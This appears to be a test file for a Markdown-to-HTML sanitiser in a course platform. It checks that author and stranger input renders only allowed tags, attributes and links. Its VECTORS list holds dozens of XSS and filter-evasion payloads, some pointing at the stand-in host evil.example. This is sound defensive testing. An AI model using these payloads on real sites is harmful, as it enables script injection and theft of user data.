"""What an author writes becomes a page, and what a stranger writes stays harmless."""

import html.parser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advocert_courses.errors import MarkdownRefusedError
from advocert_courses.html import plain_text, render_html, render_inline
from advocert_courses.html.allowed import LINK, TAGS

ALLOWED_ATTRIBUTES = {("a", "href"), ("a", "rel"), ("img", "src"), ("img", "alt"), ("ol", "start")}

# After the OWASP cheat sheet on filter evasion, and what Markdown adds to it.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="y" onload="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=p></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example\"onmouseover='alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    "<javascript:alert(1)>",
    "<https://ok.example/\"onclick='alert(1)'>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "==<script>alert(1)</script>==",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "\x02klzzwxh:0000\x03<script>",
    "{: onclick=alert(1) }",
    "# x {: onclick=alert(1) }",
]


class Reader(html.parser.HTMLParser):
    """Collects what a browser would see: tags, and attributes with their values."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.seen.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(text: str) -> None:
    read = Reader(text)
    assert read.seen <= TAGS
    assert {(tag, name) for tag, name, _ in read.attributes} <= ALLOWED_ATTRIBUTES
    assert all(LINK.match(value) for _, name, value in read.attributes if name == "href")


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_becomes_text(vector):
    assert_harmless(render_html(f"Before {vector} after"))


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_on_a_line_of_its_own_becomes_text(vector):
    assert_harmless(render_html(f"Before\n\n{vector}\n\nafter"))


@given(
    st.text(
        st.one_of(st.sampled_from("<>\"'=&;:/()[]!*_`#|\\ \n\tajs"), st.characters(codec="utf-8")),
        max_size=300,
    )
)
def test_no_text_becomes_more_than_what_is_allowed(text):
    try:
        rendered = render_html(text)
    except MarkdownRefusedError:
        return
    assert_harmless(rendered)


def test_raw_html_stays_visible_as_text():
    assert render_html("a <b>bold</b> move") == "<p>a &lt;b&gt;bold&lt;/b&gt; move</p>"


@pytest.mark.parametrize(
    "address", ["https://a.example/x?y=1", "http://a.example", "mailto:a@b.example", "#top"]
)
def test_a_link_of_an_allowed_kind_leads_away_safely(address):
    assert f'<a href="{address}" rel="noopener external">x</a>' in render_html(f"[x]({address})")


def test_a_link_of_another_kind_loses_its_address():
    assert render_html("[x](ftp://a.example)") == "<p><a>x</a></p>"


def test_an_image_with_a_text_is_shown():
    rendered = render_html("![A router on a shelf](https://a.example/r.png)")
    assert 'alt="A router on a shelf"' in rendered


def test_an_image_without_a_text_is_left_out():
    assert render_html("before ![](https://a.example/r.png) after") == "<p>before  after</p>"


def test_an_image_from_elsewhere_leaves_its_text():
    assert render_html("![A router](http://a.example/r.png)!") == "<p>A router!</p>"


def test_two_equal_signs_highlight():
    assert render_html("Say it ==in the post itself==.") == "<p>Say it <mark>in the post itself</mark>.</p>"


def test_headings_stay_below_those_of_the_page():
    assert render_html("# One\n\n##### Five") == "<h2>One</h2>\n<h4>Five</h4>"


def test_a_table_is_a_table():
    assert "<td>2</td>" in render_html("| a | b |\n|---|---|\n| 1 | 2 |")


@given(st.text(st.sampled_from("abc XYZ.,;:?'\"()%-\u2019\u2013/"), min_size=1, max_size=60))
def test_the_short_way_for_plain_lines_gives_what_the_long_way_gives(text):
    assert render_html(f"a{text}z") == render_html(f"a{text}z\n")


def test_the_same_text_is_converted_once():
    render_html("A text that *nobody* else renders.")
    before = render_html.cache_info().hits
    render_html("A text that *nobody* else renders.")
    assert render_html.cache_info().hits == before + 1


def test_inside_a_line_there_is_no_paragraph():
    assert render_inline("Say *it*.") == "Say <em>it</em>."


def test_two_paragraphs_stay_two():
    assert render_inline("One.\n\nTwo.").count("<p>") == 2


def test_the_words_of_a_page_can_be_taken_back():
    assert plain_text(render_html("Say *it* & <b>smile</b>.")) == "Say it & <b>smile</b>."
